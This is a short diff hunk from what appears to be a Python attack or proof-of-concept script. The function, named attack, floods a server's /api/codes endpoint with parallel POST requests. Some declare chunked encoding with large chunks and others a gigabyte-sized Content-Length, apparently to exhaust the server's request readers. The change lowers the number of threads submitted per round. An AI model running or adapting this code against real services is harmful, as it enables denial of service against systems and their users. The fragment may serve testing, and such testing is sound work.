@@ -224,7 +224,7 @@ def attack(host, token):
     body = f"POST /api/codes HTTP/1.1\r\nHost: {host}\r\nX-Isthmus-Token: {token}\r\n"
     chunk = b"10000\r\n" + bytes(2**16) + b"\r\n"
     with ThreadPoolExecutor(10) as pool:
-        for _ in range(10):
+        for _ in range(5):  # four are read at a time
             pool.submit(send, host, f"{body}Transfer-Encoding: chunked\r\n\r\n", chunk)
             pool.submit(send, host, f"{body}Content-Length: {2**30}\r\n\r\n", bytes(2**16))
     with ExitStack() as stack:
